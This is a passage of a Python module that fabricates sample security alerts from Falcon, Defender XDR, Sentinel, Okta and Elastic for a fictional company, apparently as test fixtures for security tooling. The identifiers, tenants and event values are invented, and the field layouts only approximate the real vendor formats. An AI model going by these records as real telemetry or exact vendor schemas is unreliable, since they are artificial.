    "T1053": "Scheduled Task/Job",
    "T1059": "Command and Scripting Interpreter",
    "T1071": "Application Layer Protocol",
    "T1074": "Data Staged",
    "T1078": "Valid Accounts",
    "T1087": "Account Discovery",
    "T1098": "Account Manipulation",
    "T1110": "Brute Force",
    "T1114": "Email Collection",
    "T1136": "Create Account",
    "T1213": "Data from Information Repositories",
    "T1204": "User Execution",
    "T1218": "System Binary Proxy Execution",
    "T1543": "Create or Modify System Process",
    "T1547": "Boot or Logon Autostart Execution",
    "T1550": "Use Alternate Authentication Material",
    "T1552": "Unsecured Credentials",
    "T1553": "Subvert Trust Controls",
    "T1556": "Modify Authentication Process",
    "T1558": "Steal or Forge Kerberos Tickets",
    "T1560": "Archive Collected Data",
    "T1562": "Impair Defenses",
    "T1564": "Hide Artifacts",
    "T1566": "Phishing",
    "T1567": "Exfiltration Over Web Service",
    "T1569": "System Services",
    "T1595": "Active Scanning",
}


def any_name(uid: str) -> str:
    """Name of a technique or of a parent technique."""
    return TECHNIQUES[uid][0] if uid in TECHNIQUES else PARENTS[uid]


def level_word(level: int) -> str:
    return ("informational", "low", "medium", "high", "critical")[level - 1]


# --------------------------------------------------------------------------------------------
# Processes, as endpoint tools report them.
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Proc:
    """A process: its image, command line, image hash and parent (``path`` may be POSIX)."""

    path: str
    cmd: str
    sha256: str | None = None
    parent: Proc | None = None

    @property
    def name(self) -> str:
        return self.path.replace("\\", "/").rsplit("/", 1)[-1]

    @property
    def folder(self) -> str:
        sep = "\\" if "\\" in self.path else "/"
        return self.path.rsplit(sep, 1)[0]

    def pid(self, *seed: object) -> int:
        return number_of("pid", self.path, self.cmd, *seed, low=400, high=30000)


def winproc(name: str, cmd: str | None = None, parent: Proc | None = None) -> Proc:
    """A signed Windows system binary, with its known hash."""
    folders = {
        "powershell.exe": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
        "explorer.exe": "C:\\Windows",
        "WINWORD.EXE": "C:\\Program Files\\Microsoft Office\\root\\Office16",
        "EXCEL.EXE": "C:\\Program Files\\Microsoft Office\\root\\Office16",
        "chrome.exe": "C:\\Program Files\\Google\\Chrome\\Application",
        "java.exe": "C:\\Program Files\\Eclipse Adoptium\\jre-17\\bin",
        "PSEXESVC.exe": "C:\\Windows",
    }
    folder = folders.get(name, "C:\\Windows\\System32")
    return Proc(f"{folder}\\{name}", cmd or name, SIGNED.get(name), parent)


EXPLORER = winproc("explorer.exe", "C:\\Windows\\Explorer.EXE")
SERVICES = Proc("C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe")


def _device_path(path: str) -> str:
    """``C:\\Windows\\x.exe`` as Falcon writes it: ``\\Device\\HarddiskVolume3\\Windows\\x.exe``."""
    if len(path) > 2 and path[1] == ":":
        return "\\Device\\HarddiskVolume3" + path[2:]
    return path


# --------------------------------------------------------------------------------------------
# CrowdStrike Falcon (examples/crowdstrike_detections.jsonl)
# --------------------------------------------------------------------------------------------

_FALCON_CID = "4f1e2d3c4b5a69788796a5b4c3d2e1f0"
_DISPOSITION_FLAGS = (
    "Indicator",
    "Detect",
    "InddetMask",
    "SensorOnly",
    "Rooting",
    "KillProcess",
    "KillSubProcess",
    "QuarantineMachine",
    "QuarantineFile",
    "PolicyDisabled",
    "KillParent",
    "OperationBlocked",
    "ProcessBlocked",
    "RegistryOperationBlocked",
    "CriticalProcessDisabled",
    "BootupSafeguardEnabled",
    "FsOperationBlocked",
    "HandleOperationDowngraded",
    "KillActionFailed",
    "BlockingUnsupportedOrDisabled",
    "SuspendProcess",
    "SuspendParent",
)


def crowdstrike_detection(
    at: datetime,
    host: Asset,
    *,
    user: str,
    name: str,
    description: str,
    level: int,
    proc: Proc,
    techniques: Sequence[str] = (),
    ml: bool = False,
    ioc: tuple[str, str] | None = None,
    connections: Sequence[tuple[str, int]] = (),
    prevented: bool = False,
    epp: bool = False,
) -> Record:
    """A Falcon detection: ``DetectionSummaryEvent``, or ``EppDetectionSummaryEvent`` (``epp``).

    ``ml`` marks a machine-learning detection (Falcon's own tactic names, no ATT&CK ids).
    """
    sensor = digest("falcon-sensor", host.hostname)
    pid = number_of("falcon-pid", host.hostname, proc.cmd, at, low=10**10, high=10**12)
    ppid = number_of(
        "falcon-pid",
        host.hostname,
        proc.parent.cmd if proc.parent else "",
        at,
        low=10**10,
        high=10**12,
    )
    offset = number_of("falcon-offset", at, low=100000, high=999999)
    pattern = number_of("falcon-pattern", name, low=10000, high=11000)
    if ml:
        tactic, tech, tactic_id, tech_id = "Machine Learning", "Sensor-based ML", None, None
    else:
        first = techniques[0]
        tactic_id, tactic = tactic_of(first)
        tech, tech_id = technique_name(first), first
    flags = dict.fromkeys(_DISPOSITION_FLAGS, False)
    if prevented:
        flags.update(KillProcess=True, QuarantineFile=True, ProcessBlocked=True)
    parent = proc.parent
    grand = parent.parent if parent else None
    start = int(at.timestamp()) - number_of("falcon-start", pid, low=3, high=90)
    event: Record = {
        "ProcessStartTime": start,
        "ProcessEndTime": start + 2 if prevented else 0,
        "ProcessId": pid,
        "ParentProcessId": ppid,
        "UserName": user,
        "SeverityName": level_word(level).title(),
        "FileName": proc.name,
        "CommandLine": proc.cmd,
        "SHA1String": "0000000000000000000000000000000000000000",
        "LocalIP": host.ips[0],
        "MACAddress": "00-50-56-"
        + "-".join(digest("mac", host.hostname)[i : i + 2] for i in (0, 2, 4)),
        "Tactic": tactic,
        "Technique": tech,
        "Objective": "Falcon Detection Method" if ml else "Follow Through",
        "PatternDispositionDescription": "Prevention, process killed and file quarantined."
        if prevented
        else "Detection, standard detection.",
        "PatternDispositionValue": 2048 if prevented else 0,
        "PatternDispositionFlags": flags,
        "PatternId": pattern,
    }
    if proc.sha256:
        event["SHA256String"] = proc.sha256
    if tactic_id and tech_id:
        event.update(TacticId=tactic_id, TechniqueId=tech_id)
        event["MitreAttack"] = [
            {
                "Tactic": tactic_of(t)[1],
                "TacticID": tactic_of(t)[0],
                "Technique": technique_name(t),
                "TechniqueID": t,
                "PatternID": pattern,
            }
            for t in techniques
        ]
    if parent:
        event["ParentImageFileName"] = _device_path(parent.path)
        event["ParentCommandLine"] = parent.cmd
    if ioc:
        event["IOCType"], event["IOCValue"] = ioc
    if connections:
        event["NetworkAccesses"] = [
            {
                "AccessType": 0,
                "AccessTimestamp": int(at.timestamp()) - 5 * index,
                "Protocol": "TCP",
                "LocalAddress": host.ips[0],
                "LocalPort": number_of("port", at, remote, index, low=49152, high=65000),
                "RemoteAddress": remote,
                "RemotePort": port,
                "ConnectionDirection": 0,
                "IsIPV6": False,
            }
            for index, (remote, port) in enumerate(connections)
        ]
    link = "https://falcon.eu-1.crowdstrike.com/activity/detections/detail"
    if epp:
        composite = f"{_FALCON_CID}:ind:{sensor}:{pid}-{pattern}-{offset}"
        event.update(
            Hostname=host.hostname,
            Name=name,
            Description=description,
            Severity=(10, 30, 50, 70, 90)[level - 1],
            FilePath=_device_path(proc.path),
            LogonDomain=NETBIOS,
            AgentId=sensor,
            CompositeId=composite,
            FalconHostLink=f"{link}/{composite}?_cid={_FALCON_CID}",
            SourceVendors="CrowdStrike",
            SourceProducts="Falcon Insight",
            DataDomains="Endpoint",
            Type="ldt",
        )
        if parent:
            event["ParentImageFileName"] = parent.name
            event["ParentImageFilePath"] = _device_path(parent.path)
        if grand:
            event["GrandParentImageFileName"] = grand.name
            event["GrandParentImageFilePath"] = _device_path(grand.path)
            event["GrandParentCommandLine"] = grand.cmd
    else:
        detect = f"ldt:{sensor}:{pid}"
        event.update(
            ComputerName=host.hostname,
            DetectName=name,
            DetectDescription=description,
            Severity=level,
            FilePath=_device_path(proc.folder),
            MachineDomain=NETBIOS,
            SensorId=sensor,
            DetectId=detect,
            FalconHostLink=f"{link}/{detect}?_cid={_FALCON_CID}",
        )
        if grand:
            event["GrandparentImageFileName"] = _device_path(grand.path)
            event["GrandparentCommandLine"] = grand.cmd
    return {
        "metadata": {
            "customerIDString": _FALCON_CID,
            "offset": offset,
            "eventType": "EppDetectionSummaryEvent" if epp else "DetectionSummaryEvent",
            "eventCreationTime": epoch_ms(at),
            "version": "1.0",
        },
        "event": event,
    }


def falcon_ml_detection(
    at: datetime,
    host: Asset,
    *,
    user: str,
    proc: Proc,
    sha256: str,
    level: int,
    confidence: Literal["high", "medium"] = "high",
    prevented: bool = False,
) -> Record:
    """Falcon: the sensor's machine-learning model flags ``proc``'s file ("Known Malware" at
    high confidence, "Machine Learning" at medium)."""
    return crowdstrike_detection(
        at,
        host,
        user=user,
        name="Known Malware" if confidence == "high" else "Machine Learning",
        description="This file meets the machine learning-based on-sensor AV protection's "
        f"{confidence} confidence threshold for malicious files.",
        level=level,
        proc=proc,
        ml=True,
        ioc=("hash_sha256", sha256),
        prevented=prevented,
        epp=True,
    )


# --------------------------------------------------------------------------------------------
# Microsoft Defender XDR, Graph security alerts v2 (examples/defender_alerts_v2.json)
# --------------------------------------------------------------------------------------------

_DEFENDER_PREFIX = {
    "microsoftDefenderForEndpoint": "da",
    "microsoftDefenderForOffice365": "fa",
    "microsoftDefenderForIdentity": "aa",
    "microsoftDefenderForCloudApps": "ca",
}


def _evidence(kind: str, roles: Sequence[str] = (), verdict: str = "suspicious") -> Record:
    return {
        "@odata.type": f"#microsoft.graph.security.{kind}",
        "verdict": verdict,
        "remediationStatus": "none",
        "remediationStatusDetails": None,
        "roles": list(roles),
        "detailedRoles": [],
        "tags": [],
    }


def _user_account(user: str) -> Record:
    person = PEOPLE.get(user)
    return {
        "accountName": user,
        "domainName": NETBIOS,
        "userSid": sid_of(user),
        "azureAdUserId": uuid_of("aad", user),
        "userPrincipalName": f"{user}@{DOMAIN}",
        "displayName": person.name if person else user,
    }


def dv_device(
    host: Asset, roles: Sequence[str] = ("compromised",), users: Sequence[str] = ()
) -> Record:
    windows = (host.os or "").startswith("Windows")
    return {
        **_evidence("deviceEvidence", roles),
        "firstSeenDateTime": "2025-03-02T10:11:00Z",
        "mdeDeviceId": digest("mde", host.hostname, size=40),
        "azureAdDeviceId": None,
        "deviceDnsName": fqdn(host.hostname),
        "hostName": host.hostname,
        "ntDomain": NETBIOS if windows else None,
        "dnsDomain": DOMAIN,
        "osPlatform": (host.os or "Other").replace(" ", ""),
        "healthStatus": "active",
        "riskScore": "high" if "compromised" in roles else "none",
        "onboardingStatus": "onboarded",
        "defenderAvStatus": "updated",
        "ipInterfaces": list(host.ips),
        "loggedOnUsers": [{"accountName": u, "domainName": NETBIOS} for u in users],
    }


def dv_user(user: str, roles: Sequence[str] = ("compromised",)) -> Record:
    return {**_evidence("userEvidence", roles), "userAccount": _user_account(user)}


def _image(proc: Proc | None) -> Record | None:
    if proc is None:
        return None
    signed = proc.sha256 in SIGNED.values()
    return {
        "sha1": None,
        "sha256": proc.sha256,
        "fileName": proc.name,
        "filePath": proc.folder,
        "fileSize": number_of("size", proc.path, low=40000, high=900000),
        "filePublisher": "Microsoft Corporation" if signed else None,
        "signer": None,
        "issuer": None,
    }


def dv_process(proc: Proc, user: str | None, at: datetime) -> Record:
    parent = proc.parent
    return {
        **_evidence("processEvidence"),
        "processId": proc.pid(at),
        "parentProcessId": parent.pid(at) if parent else None,
        "processCommandLine": proc.cmd,
        "processCreationDateTime": iso_7(at - timedelta(seconds=40)),
        "parentProcessCreationDateTime": iso_7(at - timedelta(minutes=3)) if parent else None,
        "detectionStatus": "detected",
        "imageFile": _image(proc),
        "parentProcessImageFile": _image(parent),
        "userAccount": _user_account(user) if user else None,
    }


def dv_file(
    name: str,
    folder: str,
    sha256: str | None = None,
    *,
    publisher: str | None = None,
    signer: str | None = None,
) -> Record:
    return {
        **_evidence("fileEvidence"),
        "detectionStatus": "detected",
        "fileDetails": {
            "sha1": None,
            "sha256": sha256,
            "fileName": name,
            "filePath": folder,
            "fileSize": number_of("size", folder, name, low=20000, high=4000000),
            "filePublisher": publisher,
            "signer": signer,
            "issuer": None,
        },
    }


def dv_ip(ip: str, roles: Sequence[str] = ("source",), country: str | None = None) -> Record:
    return {**_evidence("ipEvidence", roles), "ipAddress": ip, "countryLetterCode": country}


def dv_url(url: str) -> Record:
    return {**_evidence("urlEvidence", ("contextual",), "malicious"), "url": url}


def dv_mailbox(user: str) -> Record:
    person = PEOPLE[user]
    return {
        **_evidence("mailboxEvidence", ("contextual",), "unknown"),
        "primaryAddress": person.email,
        "displayName": person.name,
        "userAccount": _user_account(user),
    }


def dv_message(
    *,
    sender: str,
    sender_name: str,
    recipient: str,
    subject: str,
    sender_ip: str,
    received: datetime,
    urls: Sequence[str] = (),
    attachments: int = 0,
    threats: Sequence[str] = ("Phish",),
    delivery: str = "delivered",
    location: str = "inbox",
    verdict: str = "malicious",
) -> Record:
    domain = sender.split("@", 1)[1]
    message_id = digest("msg", sender, recipient, subject, received)
    return {
        **_evidence("analyzedMessageEvidence", ("contextual",), verdict),
        "networkMessageId": uuid_of("netmsg", message_id),
        "internetMessageId": f"<{received:%Y%m%d%H%M%S}.{message_id[:4]}@{domain}>",
        "subject": subject,
        "language": "en",
        "senderIp": sender_ip,
        "recipientEmailAddress": recipient,
        "antiSpamDirection": "inbound",
        "deliveryAction": delivery,
        "deliveryLocation": location,
        "urn": f"urn:MailEntity:{message_id}",
        "threats": list(threats),
        "threatDetectionMethods": ["urlDetonationReputation"] if urls else ["fileDetonation"],
        "urls": list(urls),
        "urlCount": len(urls),
        "attachmentsCount": attachments,
        "receivedDateTime": received.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "p1Sender": {"emailAddress": sender, "displayName": sender_name, "domainName": domain},
        "p2Sender": {"emailAddress": sender, "displayName": sender_name, "domainName": domain},
    }


def defender_alert(
    at: datetime,
    *,
    title: str,
    description: str,
    category: str,
    level: int,
    techniques: Sequence[str],
    evidence: Sequence[Record],
    source: str = "microsoftDefenderForEndpoint",
    first: datetime | None = None,
    threat: str | None = None,
) -> Record:
    """A Defender XDR alert; ``source`` is the serviceSource (Endpoint, Office 365, ...)."""
    prefix = _DEFENDER_PREFIX[source]
    seed = (title, at, tuple(json.dumps(e, sort_keys=True) for e in evidence))
    if prefix == "da":
        alert_id = f"da{number_of('mde', *seed, low=10**17, high=10**18)}_" + str(
            -number_of("mde2", *seed, low=10**8, high=2 * 10**9)
        )
    else:
        alert_id = f"{prefix}{digest('graph', *seed, size=10)}-{uuid_of('graph', *seed)[9:]}"
    incident = str(number_of("incident", title, at.date(), low=4000, high=9999))
    created = iso_7(at)
    portal = "https://security.microsoft.com"
    return {
        "@odata.type": "#microsoft.graph.security.alert",
        "id": alert_id,
        "providerAlertId": alert_id.removeprefix(prefix) if prefix != "da" else alert_id,
        "incidentId": incident,
        "status": "new",
        "severity": ("informational", "low", "medium", "high", "high")[level - 1],
        "classification": None,
        "determination": None,
        "serviceSource": source,
        "detectionSource": source,
        "detectorId": uuid_of("detector", title),
        "tenantId": TENANT,
        "title": title,
        "description": description,
        "recommendedActions": "",
        "category": category,
        "assignedTo": None,
        "alertWebUrl": f"{portal}/alerts/{alert_id}?tid={TENANT}",
        "incidentWebUrl": f"{portal}/incidents/{incident}?tid={TENANT}",
        "actorDisplayName": None,
        "threatDisplayName": threat,
        "threatFamilyName": threat.split(":")[-1].split("!")[0] if threat else None,
        "mitreTechniques": list(techniques),
        "createdDateTime": created,
        "lastUpdateDateTime": created,
        "resolvedDateTime": None,
        "firstActivityDateTime": iso_7(first or at - timedelta(minutes=1)),
        "lastActivityDateTime": iso_7(at - timedelta(seconds=30)),
        "comments": [],
        "evidence": [{**e, "createdDateTime": created} for e in evidence],
        "systemTags": [],
    }


# --------------------------------------------------------------------------------------------
# Microsoft Sentinel SecurityAlert rows (examples/sentinel_securityalert.jsonl)
# --------------------------------------------------------------------------------------------


def se_account(user: str) -> Record:
    person = PEOPLE.get(user)
    return {
        "Name": user,
        "UPNSuffix": DOMAIN,
        "AadTenantId": TENANT,
        "AadUserId": uuid_of("aad", user),
        "IsDomainJoined": True,
        "DisplayName": person.name if person else user,
        "Type": "account",
    }


def se_ip(ip: str, country: str | None = None) -> Record:
    entity: Record = {"Address": ip, "Type": "ip"}
    if country:
        city, state, name, *_ = GEO[country]
        entity["Location"] = {
            "CountryCode": country,
            "CountryName": name,
            "State": state,
            "City": city,
        }
    return entity


def se_url(url: str) -> Record:
    return {"Url": url, "Type": "url"}


def se_mailbox(user: str) -> Record:
    person = PEOPLE[user]
    return {
        "MailboxPrimaryAddress": person.email,
        "DisplayName": person.name,
        "Upn": person.email,
        "ExternalDirectoryObjectId": uuid_of("aad", user),
        "Type": "mailbox",
    }


def se_mail(
    *,
    sender: str,
    sender_name: str,
    recipient: str,
    subject: str,
    sender_ip: str,
    received: datetime,
    urls: Sequence[str] = (),
) -> Record:
    domain = sender.split("@", 1)[1]
    return {
        "Recipient": recipient,
        "Urls": list(urls),
        "Sender": sender,
        "P1Sender": sender,
        "P1SenderDisplayName": sender_name,
        "P1SenderDomain": domain,
        "SenderIP": sender_ip,
        "ReceivedDate": received.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "NetworkMessageId": uuid_of("netmsg", sender, recipient, subject, received),
        "InternetMessageId": f"<{received:%Y%m%d%H%M%S}.{digest(sender, size=4)}@{domain}>",
        "Subject": subject,
        "AntispamDirection": "Inbound",
        "DeliveryAction": "Delivered",
        "DeliveryLocation": "Inbox",
        "Type": "mailMessage",
    }


def sentinel_alert(
    at: datetime,
    *,
    name: str,
    level: int,
    description: str,
    tactics: Sequence[str],
    techniques: Sequence[str],
    entities: Sequence[Record],
    provider: str = "ASI Scheduled Alerts",
    product: str = "Azure Sentinel",
    alert_type: str | None = None,
    extended: Record | None = None,
    start: datetime | None = None,
    compromised: str = "",
    link: str = "",
) -> Record:
    """A SecurityAlert row. Scheduled analytics rules (the default provider) name their rule in
    ``ExtendedProperties``; Microsoft products (``provider`` IPC, OATP, ...) use AlertType."""
    scheduled = provider == "ASI Scheduled Alerts"
    rule_id = uuid_of("sentinel-rule", name)
    props = dict(extended or {})
    if scheduled:
        props.update(
            {
                "Query Period": "01:00:00",
                "Trigger Operator": "GreaterThan",
                "Trigger Threshold": "0",
                "Analytic Rule Ids": json.dumps([rule_id]),
                "Analytic Rule Name": name,
                "Event Grouping": "SingleAlert",
            }
        )
    parents = sorted({_parent(t) for t in techniques})
    subs = sorted(t for t in techniques if "." in t)
    numbered = [{"$id": str(index), **e} for index, e in enumerate(entities, start=2)]
    return {
        "TenantId": TENANT,
        "TimeGenerated": iso_7(at),
        "DisplayName": name,
        "AlertName": name,
        "AlertSeverity": ("Informational", "Low", "Medium", "High", "High")[level - 1],
        "Description": description,
        "ProviderName": provider,
        "VendorName": "Microsoft",
        "VendorOriginalId": "" if scheduled else digest("vendor", name, at),
        "SystemAlertId": uuid_of("sentinel", name, at, json.dumps(numbered, sort_keys=True)),
        "ResourceId": "",
        "SourceComputerId": "",
        "AlertType": alert_type or f"{uuid_of('workspace')}_{rule_id}",
        "ConfidenceLevel": "",
        "ConfidenceScore": None,
        "IsIncident": False,
        "StartTime": iso_7(start or at - timedelta(minutes=2)),
        "EndTime": iso_7(at - timedelta(seconds=45)),
        "ProcessingEndTime": iso_7(at - timedelta(seconds=1)),
        "RemediationSteps": "[]",
        "ExtendedProperties": json.dumps(props, sort_keys=True),
        "Entities": json.dumps(numbered, sort_keys=True),
        "SourceSystem": "Detection",
        "WorkspaceSubscriptionId": "0b7e5d2c-1a3f-4c6e-8d9b-7f6e5d4c3b2a",
        "WorkspaceResourceGroup": "rg-northwind-soc",
        "ExtendedLinks": "",
        "ProductName": product,
        "ProductComponentName": "",
        "AlertLink": link,
        "Status": "New",
        "CompromisedEntity": compromised,
        "Tactics": ",".join(dict.fromkeys(tactics)),
        "Techniques": json.dumps(parents) if parents else "",
        "SubTechniques": json.dumps(subs) if subs else "",
        "Type": "SecurityAlert",
    }


ATYPICAL_TRAVEL = "Sign-in from an atypical location based on the user's recent sign-ins."


def identity_protection(
    at: datetime,
    *,
    name: str,
    alert_type: str,
    level: int,
    description: str,
    user: str,
    ip: str,
    country: str,
    previous: tuple[str, str] | None = None,
) -> Record:
    """An Entra ID Protection risk detection as Sentinel stores it (provider IPC)."""
    city, state, _, *_ = GEO[country]
    props: Record = {
        "Alert generation trigger": "Sign-in",
        "Client IP Address": ip,
        "Client Location": f"{city}, {state}, {country}",
        "Detection Source": "IdentityProtection",
        "Request Id": uuid_of("request", at, user),
        "State": "Open",
    }
    if previous:
        prev_ip, prev_country = previous
        pcity, pstate, *_ = GEO[prev_country]
        props.update(
            {
                "Previous IP Address": prev_ip,
                "Previous Location": f"{pcity}, {pstate}, {prev_country}",
            }
        )
    return sentinel_alert(
        at,
        name=name,
        level=level,
        description=description,
        tactics=["InitialAccess"],
        techniques=[],
        entities=[se_account(user), se_ip(ip, country)],
        provider="IPC",
        product="Azure Active Directory Identity Protection",
        alert_type=alert_type,
        extended=props,
        start=at - timedelta(minutes=1),
        compromised=f"{user}@{DOMAIN}",
        link="https://portal.azure.com/#blade/Microsoft_AAD_IAM/RiskySignInsBlade",
    )


# --------------------------------------------------------------------------------------------
# Okta System Log (examples/okta_system_log.jsonl)
# --------------------------------------------------------------------------------------------

BROWSER_UA = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.0.0 Safari/537.36"
)
MAC_UA = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.6 Safari/605.1.15"
)
SCRIPT_UA = "python-requests/2.32.3"


def _okta_user(person: Person) -> Record:
    return {
        "id": "00u" + digest("okta", person.user, size=17),
        "type": "User",
        "alternateId": person.email,
        "displayName": person.name,
        "detailEntry": None,
    }


def okta_event(
    at: datetime,
    *,
    person: Person | None,
    event_type: str,
    message: str,
    ip: str,
    country: str,
    result: str = "SUCCESS",
    reason: str | None = None,
    severity: str = "INFO",
    risk: str | None = None,
    threat_suspected: bool | None = None,
    new_place: bool = True,
    new_device: bool = True,
    ua: str = BROWSER_UA,
    session: str = "",
    targets: Sequence[Record] | None = None,
    credential_type: str | None = None,
    step: int = 0,
    legacy: str | None = None,
    request_uri: str = "/idp/idx/identify",
) -> Record:
    """One System Log LogEvent. ``person`` None is Okta's unknown actor (ThreatInsight)."""
    city, state, name, lat, lon, isp = GEO[country]
    geo = {
        "city": city,
        "state": state,
        "country": name,
        "postalCode": None,
        "geolocation": {"lat": lat, "lon": lon},
    }
    flag = "POSITIVE" if new_place else "NEGATIVE"
    debug: Record = {
        "requestId": digest("okta-request", at, ip, size=26),
        "requestUri": request_uri,
        "url": request_uri + "?",
        "behaviors": "{"
        + ", ".join(
            [
                f"New Geo-Location={flag}",
                f"New Device={'POSITIVE' if new_device else 'NEGATIVE'}",
                f"New IP={'POSITIVE' if new_place or new_device else 'NEGATIVE'}",
                f"New State={flag}",
                f"New Country={flag}",
                f"Velocity={flag}",
                f"New City={flag}",
            ]
        )
        + "}",
        "dtHash": digest("dt", ip, ua, size=64),
    }
    if risk:
        reasons = (
            "Anomalous Geo-Distance, New Country, New Device"
            if new_place
            else ("New Device, New IP")
        )
        debug["risk"] = f"{{reasons={reasons}, level={risk}}}"
    if threat_suspected is not None:
        debug["threatSuspected"] = "true" if threat_suspected else "false"
    actor = (
        _okta_user(person)
        if person
        else {
            "id": "unknown",
            "type": "User",
            "alternateId": "unknown",
            "displayName": "Unknown",
            "detailEntry": None,
        }
    )
    mobile = "iPhone" in ua
    return {
        "actor": actor,
        "client": {
            "userAgent": {
                "rawUserAgent": ua,
                "os": "iOS" if mobile else "Mac OS X" if "Macintosh" in ua else "Windows 10",
                "browser": "SAFARI"
                if "Safari/605" in ua
                else "CHROME"
                if "Chrome" in ua
                else "UNKNOWN",
            },
            "zone": "null",
            "device": "Mobile" if mobile else "Computer",
            "id": None,
            "ipAddress": ip,
            "geographicalContext": geo,
        },
        "device": None,
        "authenticationContext": {
            "authenticationProvider": None,
            "credentialProvider": None,
            "credentialType": credential_type,
            "issuer": None,
            "interface": None,
            "authenticationStep": step,
            "externalSessionId": session or "idx" + digest("session", at, ip, size=22),
        },
        "displayMessage": message,
        "eventType": event_type,
        "outcome": {"result": result, "reason": reason},
        "published": iso_ms(at),
        "securityContext": {
            "asNumber": number_of("asn", isp, low=64500, high=64520),
            "asOrg": isp,
            "isp": isp,
            "domain": isp.split()[1] + ".example" if " " in isp else None,
            "isProxy": False,
        },
        "severity": severity,
        "debugContext": {"debugData": debug},
        "legacyEventType": legacy,
        "transaction": {"type": "WEB", "id": debug["requestId"], "detail": {}},
        "uuid": uuid_of("okta", at, event_type, person.user if person else "", ip, message),
        "version": "0",
        "request": {
            "ipChain": [{"ip": ip, "geographicalContext": geo, "version": "V4", "source": None}]
        },
        "target": list(targets) if targets is not None else None,
    }


def okta_session(at: datetime, /, **fields: Any) -> Record:
    """Okta: a successful sign-in (``user.session.start``)."""
    return okta_event(
        at,
        event_type="user.session.start",
        message="User login to Okta",
        legacy="core.user_auth.login_success",
        **fields,
    )


def okta_failed_login(at: datetime, person: Person, ip: str, country: str) -> Record:
    """Okta: a scripted sign-in with a wrong password (one attempt of a spray)."""
    return okta_event(
        at,
        person=person,
        event_type="user.session.start",
        message="User login to Okta",
        result="FAILURE",
        reason="INVALID_CREDENTIALS",
        severity="WARN",
        ip=ip,
        country=country,
        ua=SCRIPT_UA,
        legacy="core.user_auth.login_failed",
    )


def okta_spray_threat(at: datetime, ip: str, country: str) -> Record:
    """Okta ThreatInsight: a password spray from ``ip``."""
    return okta_event(
        at,
        person=None,
        event_type="security.threat.detected",
        message="Request from suspicious actor",
        result="DENY",
        reason="Password Spray",
        severity="WARN",
        threat_suspected=True,
        ip=ip,
        country=country,
        ua=SCRIPT_UA,
    )


def okta_mfa_ok(at: datetime, /, **fields: Any) -> Record:
    """Okta: the second factor was verified (``user.authentication.auth_via_mfa``)."""
    return okta_event(
        at,
        event_type="user.authentication.auth_via_mfa",
        message="Authentication of user via MFA",
        step=1,
        **fields,
    )


def okta_push_denied(at: datetime, /, **fields: Any) -> Record:
    """Okta: the user rejected an Okta Verify push."""
    return okta_event(
        at,
        event_type="user.mfa.okta_verify.deny_push",
        message="User rejected Okta push verify",
        result="FAILURE",
        reason="User rejected Okta push verify",
        severity="WARN",
        **fields,
    )


def okta_target(person: Person) -> Record:
    return _okta_user(person)


OKTA_VERIFY = {
    "id": "pfd2a9c7hXkQm3Rt05d7",
    "type": "AuthenticatorEnrollment",
    "alternateId": "unknown",
    "displayName": "Okta Verify",
    "detailEntry": {"methodTypeUsed": "Push"},
}


# --------------------------------------------------------------------------------------------
# Elastic Security (examples/elastic_alerts.ndjson)
# --------------------------------------------------------------------------------------------


def _ecs_threat(techniques: Sequence[str]) -> list[Record]:
    """ECS ``threat`` entries: one per tactic, techniques with their sub-techniques nested."""
    by_tactic: dict[str, dict[str, list[str]]] = {}
    for uid in techniques:
        tactic = tactic_of(uid)[0]
        subs = by_tactic.setdefault(tactic, {}).setdefault(_parent(uid), [])
        if "." in uid:
            subs.append(uid)
    out = []
    for tactic, parents in by_tactic.items():
        out.append(
            {
                "framework": "MITRE ATT&CK",
                "tactic": {
                    "id": tactic,
                    "name": TACTICS[tactic],
                    "reference": f"https://attack.mitre.org/tactics/{tactic}/",
                },
                "technique": [
                    {
                        "id": parent,
                        "name": any_name(parent),
                        "reference": f"https://attack.mitre.org/techniques/{parent}/",
                        "subtechnique": [
                            {
                                "id": s,
                                "name": technique_name(s),
                                "reference": "https://attack.mitre.org/techniques/"
                                + s.replace(".", "/")
                                + "/",
                            }
                            for s in subs
                        ],
                    }
                    for parent, subs in parents.items()
                ],
            }
        )
    return out


def _ecs_process(proc: Proc, at: datetime, *, child: bool = True) -> Record:
    out: Record = {
        "name": proc.name,
        "pid": proc.pid(at),
        "executable": proc.path,
        "command_line": proc.cmd,
    }
    if proc.sha256:
        out["hash"] = {"sha256": proc.sha256}
    if child and proc.parent:
        out["parent"] = _ecs_process(proc.parent, at, child=False)
    return out


def elastic_alert(
    at: datetime,
    *,
    rule: str,
    description: str,
    level: int,
    techniques: Sequence[str],
    reason: str,
    host: Asset | None = None,
    user: str | None = None,
    process: Proc | None = None,
    file: tuple[str, str, str | None] | None = None,
    source: Record | None = None,
    destination: Record | None = None,
    dns: str | None = None,
    event: Record | None = None,
    rule_type: str = "eql",
    original: datetime | None = None,
) -> Record:
    """An Elastic Security detection alert; ``file`` is (name, path, sha256)."""
    word = ("low", "low", "medium", "high", "critical")[level - 1]
    risk = (21, 21, 47, 73, 99)[level - 1]
    rule_id = uuid_of("elastic-rule", rule)
    doc: Record = {
        "@timestamp": iso_ms(at),
        "kibana.alert.uuid": digest(
            "elastic",
            rule,
            at,
            host.hostname if host else "",
            user or "",
            process.cmd if process else "",
            size=64,
        ),
        "kibana.alert.original_time": iso_ms(original or at - timedelta(seconds=37)),
        "kibana.alert.reason": reason,
        "kibana.alert.status": "active",
        "kibana.alert.workflow_status": "open",
        "kibana.alert.depth": 1,
        "kibana.space_ids": ["default"],
        "kibana.version": "8.15.3",
        "event.kind": "signal",
        "kibana.alert.rule.name": rule,
        "kibana.alert.rule.rule_id": rule_id,
        "kibana.alert.rule.uuid": uuid_of("elastic-rule-uuid", rule),
        "kibana.alert.rule.description": description,
        "kibana.alert.rule.type": rule_type,
        "kibana.alert.rule.severity": word,
        "kibana.alert.rule.risk_score": risk,
        "kibana.alert.rule.threat": _ecs_threat(techniques),
        "kibana.alert.rule.tags": ["Domain: Endpoint", "Northwind"],
        "kibana.alert.rule.version": 3,
        "kibana.alert.severity": word,
        "kibana.alert.risk_score": risk,
        "event": event or {"kind": "signal"},
